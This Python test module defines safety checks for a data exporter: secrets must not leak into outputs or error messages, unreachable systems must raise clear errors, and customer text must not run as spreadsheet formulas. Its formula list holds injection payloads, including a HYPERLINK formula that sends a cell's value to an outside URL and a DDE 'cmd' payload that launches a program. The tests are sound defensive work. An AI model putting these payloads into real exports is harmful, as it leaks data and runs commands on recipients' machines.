"""What must not get out: secrets, formulas, and errors that nobody can act on."""

from __future__ import annotations

import json
from dataclasses import replace
from typing import TYPE_CHECKING

from kartoteka.errors import ConfigError, DeliveryError, InputError, KartotekaError
from kartoteka.model.types import ColumnType
from kartoteka.testing.exporters.given import given
from kartoteka.testing.exporters.rows import customers
from kartoteka.testing.failed import CheckFailed, expect, expect_none

if TYPE_CHECKING:
    from kartoteka.testing.exporters.exporter_checks import ExporterChecks

_FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://example.com?x="&A1, "open")',
    "+1+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(A1:A9)",
    " =1+1",
    "\t=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
)


def secrets_stay_secret(checks: ExporterChecks) -> None:
    """No secret is in what is kept or shown: destinations, details, remarks, the staged file."""
    options, desk = checks.options(), checks.desk()
    places = checks.exporter(options).destinations({})
    prepared = desk.prepare(checks.exporter(options), customers(5))
    remarks = desk.deliver(checks.exporter(options), prepared)
    kept = {"destinations()": " ".join(places), "the remarks of deliver()": " ".join(remarks)}
    for one in prepared:
        name = one.staged.name
        kept[f"the file {name}"] = one.staged.read_bytes().decode("utf-8", "replace") if one.staged.exists() else ""
        kept[f"the destination of {name}"] = one.destination
        kept[f"the details of {name}"] = json.dumps(one.details, ensure_ascii=False)
        kept[f"the remarks of {name}"] = " ".join(one.remarks)
    shows = [f"{secret!r} is in {place}" for secret in checks.secrets for place, text in kept.items() if secret in text]
    expect_none(shows, "a secret is kept:")


def unreachable_system(checks: ExporterChecks) -> None:
    """Where nothing can be delivered, the message says so, with what would do, and without a secret.

    What `prepare` cannot read may be an `InputError`: nothing is kept then. From `deliver` it is a `DeliveryError`.
    """
    options, desk = checks.unreachable(), replace(checks.desk(), introduce=None)
    fitting: tuple[type[KartotekaError], ...] = (KartotekaError, ConfigError, DeliveryError, InputError)
    try:
        exporter = checks.exporter(options)
        exporter.destinations({})
        prepared = desk.prepare(exporter, customers(5))
        fitting = (KartotekaError, ConfigError, DeliveryError)
        desk.deliver(checks.exporter(options), prepared)
    except KartotekaError as error:
        told = str(error)
        hints = [error.hint, *(problem.hint for problem in getattr(error, "problems", ()))]
        expect(any(hints), f"the message does not say what would do; give the error a hint: {told}")
        fits = type(error) in fitting or (InputError in fitting and isinstance(error, InputError))
        expect(fits, f"it raises {type(error).__name__}; raise DeliveryError")
    except Exception as error:
        raise CheckFailed(
            f"it raises {type(error).__name__} ({error}), which people would see as a crash; raise DeliveryError"
        ) from error
    else:
        raise CheckFailed("it says that it delivered to a system that cannot be reached")
    expect_none((f"{secret!r} in: {told}" for secret in checks.secrets if secret in told), "the message shows a secret:")


def formulas_do_not_run(checks: ExporterChecks) -> None:
    """Where people open what is delivered in a spreadsheet, no name and no text of a customer is run as a formula there."""
    declared = getattr(checks, "opened_in_a_spreadsheet", None)
    expect(isinstance(declared, bool), "say opened_in_a_spreadsheet = True or False: whether people open it there")
    if not declared:
        return
    columns = {"customer_id": ColumnType.TEXT, "=1+1": ColumnType.TEXT}
    rows = given(columns, [{"customer_id": str(number), "=1+1": text} for number, text in enumerate(_FORMULAS)])
    checks.delivered(replace(rows, batch_rows=3))
    expect_none((repr(cell) for cell in checks.formulas()), "a spreadsheet would run:")


SAFETY_CHECKS = (secrets_stay_secret, unreachable_system, formulas_do_not_run)
